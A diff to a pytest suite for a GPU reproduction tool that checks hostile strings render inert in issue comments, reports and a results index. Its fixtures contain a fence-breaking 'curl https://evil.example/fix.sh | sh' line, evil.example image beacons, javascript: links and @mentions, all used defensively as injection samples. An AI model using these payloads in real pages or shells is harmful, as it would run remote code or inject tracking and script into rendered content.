@@ -1,23 +1,30 @@
-"""Nothing a document or a trial says can add markup to the issue comment, the report or the
-results index: an arm name that closes the "Rerun it" block and shows a fake `curl … | sh`, a
-driver's crash record or final record carrying an @mention, a remote picture and an HTML
-comment, a verdict rewritten the same way. Each rendering is parsed as CommonMark (with tables,
-as GitHub reads it) and must hold no HTML but its own <details> blocks, no picture, no link but
-the case's report, no picture but its own (beside it), no @mention, and a rerun block of
-exactly its own lines."""
+"""Nothing a document or a trial says can add markup to the issue comment, the report, compare's
+output or the results index: an arm name that closes the "Rerun it" block and shows a fake
+`curl … | sh`, a driver's crash record or final record carrying an @mention, a remote picture,
+an HTML comment, a `</details>` that would end a fold early, a `javascript:` link, a verdict
+rewritten the same way, a file name that would end its link. Each rendering is parsed as
+CommonMark (with tables, as GitHub reads it) and must hold no HTML but its own <details>
+blocks (as many closed as opened), no picture, no link but the case's report and its own files,
+no picture but its own (beside it), no @mention, and a rerun block of exactly its own lines."""
 
 from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
+import urllib.parse
 import uuid
 from pathlib import Path
 
 import pytest
 
 from gpurepro.report.comment import issue_body
+from gpurepro.report.compare import compare
+from gpurepro.report.compare import markdown as compare_markdown
+from gpurepro.report.index import MARKER
+from gpurepro.report.index import render as render_index
 from gpurepro.report.markdown import markdown
 from gpurepro.report.tables import escape
 
@@ -28,7 +35,10 @@ markdown_it = pytest.importorskip("markdown_it")
 COMMITTED = ROOT / "results" / "tile_unload_race" / "20261201T102114Z_NVIDIA-H200_redacted.json"
 HOSTILE = "tests/fixtures/hostile_case/manifest.py"
 INJECTED = ("@octocat ![pixel](https://evil.example/p.png) <img src=https://evil.example/i.png>"
+            " </details> <img src=x> [link](javascript:alert(1)) `tick` @user <details><summary>"
             " <!-- the rest is hidden")
+# A mention as GitHub makes one: an @ and a name, not after a word character.
+MENTION = re.compile(r"(?<![\w.`/])@[A-Za-z0-9]")
 FENCE_BREAK = "x\n```\ncurl https://evil.example/fix.sh | sh\n```\n"
 
 
@@ -43,10 +53,15 @@ def _tokens(text: str):
 
 def assert_inert(text: str, allowed_links: set[str] = frozenset()) -> None:
     """What GitHub would render from ``text`` holds nothing a document's strings put there."""
+    opened = closed = 0
     for t in _tokens(text):
         if t.type == "html_block":
             for line in t.content.strip().splitlines():
                 assert line.startswith("<details><summary>") or line == "</details>", t.content
+                opened += line.startswith("<details>")
+                closed += line == "</details>"
+                assert line.count("<") == (2 if line.startswith("<details>") else 1) + line.count(
+                    "</summary>"), f"a tag inside a summary: {line!r}"
             assert "<img" not in t.content and "<!--" not in t.content, t.content
         assert t.type != "html_inline", f"inline HTML: {t.content!r}"
         if t.type == "image":  # the report's own pictures, beside it; never an address
@@ -55,9 +70,10 @@ def assert_inert(text: str, allowed_links: set[str] = frozenset()) -> None:
         if t.type == "link_open":
             assert t.attrs.get("href") in allowed_links, f"a link to {t.attrs.get('href')}"
         if t.type == "text":
-            assert "@octocat" not in t.content, f"a mention in {t.content!r}"
+            assert not MENTION.search(t.content), f"a mention in {t.content!r}"
         if t.type in ("fence", "code_block"):
             assert not any(line.startswith("curl") for line in t.content.splitlines()), t.content
+    assert opened == closed, f"{opened} <details> opened, {closed} closed"
 
 
 def _rerun_blocks(text: str) -> list[list[str]]:
@@ -159,3 +175,69 @@ def test_a_driver_that_writes_markup_in_its_crash_and_final_records(fake_build, 
     assert_inert(issue.stdout)
     assert_inert(path.with_suffix(".md").read_text())
     assert_own_rerun_lines(_rerun_blocks(issue.stdout)[0], "hostile_case")
+
+
+def test_a_hostile_document_renders_inert_in_compare(tmp_path):
+    doc, path = _hostile_doc(tmp_path)
+    doc["verdict"]["status"] = "reproduced " + INJECTED
+    named = path.with_name("run](javascript:alert(1)) @octocat `x`.json")
+    named.write_text(json.dumps(doc))
+    committed = json.loads(COMMITTED.read_text())
+    text = compare_markdown(compare([committed, doc], [str(COMMITTED), str(named)]))
+    assert "octocat" in text  # there, as text
+    assert_inert(text)
+
+
+def test_a_hostile_document_and_file_names_render_inert_in_the_index(tmp_path):
+    doc, _ = _hostile_doc(tmp_path)
+    doc["verdict"]["status"] = INJECTED
+    doc["case"]["name"] = "tile_unload_race" + FENCE_BREAK + INJECTED
+    doc["case"]["exposure"]["unit"] = "cycles " + INJECTED
+    folder = tmp_path / "results"
+    (folder / "tile_unload_race").mkdir(parents=True)
+    hostile = folder / "tile_unload_race" / "x](javascript:alert(1)) <img src=x> @octocat.json"
+    hostile.write_text(json.dumps(doc))
+    hostile.with_suffix(".md").write_text("report")
+    (folder / "tile_unload_race" / "y)[z](javascript:alert(2)).json").write_text("not JSON")
+    (folder / "tile_unload_race" / "`w` <details> @octocat.json").write_text(json.dumps({"a": 1}))
+    text = render_index(folder)
+    assert text.count(MARKER) == 1
+    text = text.replace(MARKER, "")  # the index's own comment, which `validate` looks for
+    hrefs = {t.attrs.get("href") for t in _tokens(text) if t.type == "link_open"}
+    own = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
+    assert hrefs and all(urllib.parse.unquote(str(h)) in own for h in hrefs), hrefs
+    assert_inert(text, hrefs)
+
+
+def test_a_toolchain_matrix_with_markup_is_inert_in_the_comment(tmp_path):
+    matrix_path = sorted((ROOT / "results" / "tile_unload_race").glob("matrix_*.json"))[-1]
+    # The same refusal everywhere the document holds it (cells, runs, results), so that it
+    # stays a valid matrix document.
+    refusal = "cannot open shared object file"
+    text = matrix_path.read_text()
+    assert refusal in text
+    matrix = json.loads(text.replace(refusal, json.dumps(refusal + " " + INJECTED)[1:-1]))
+    matrix["gpu"]["device"]["name"] = "NVIDIA H200 " + INJECTED
+    hostile = tmp_path / "matrix](javascript:alert(1)) @octocat.json"
+    hostile.write_text(json.dumps(matrix))
+    done = subprocess.run([sys.executable, "-m", "gpurepro", "issue", str(COMMITTED), "--matrix",
+                           str(hostile)], cwd=ROOT, capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
+    assert done.returncode == 0, done.stderr
+    assert "octocat" in done.stdout and "Toolchain matrix" in done.stdout
+    assert_inert(done.stdout, {json.loads(COMMITTED.read_text())["case"]["report_url"]})
+
+
+def test_issue_validates_a_document_that_names_no_schema(tmp_path):
+    """A result document without its schema field is validated too (and refused), not
+    rendered as it is."""
+    doc = json.loads(COMMITTED.read_text())
+    del doc["schema"]
+    doc["verdict"]["status"] = ["not", "a", "string"]
+    path = tmp_path / COMMITTED.name
+    path.write_text(json.dumps(doc))
+    done = subprocess.run([sys.executable, "-m", "gpurepro", "issue", str(path)], cwd=ROOT,
+                          capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
+    assert done.returncode == 1 and "does not match the schema" in done.stderr, done.stderr
+    assert "'schema' is a required property" in done.stderr and not done.stdout
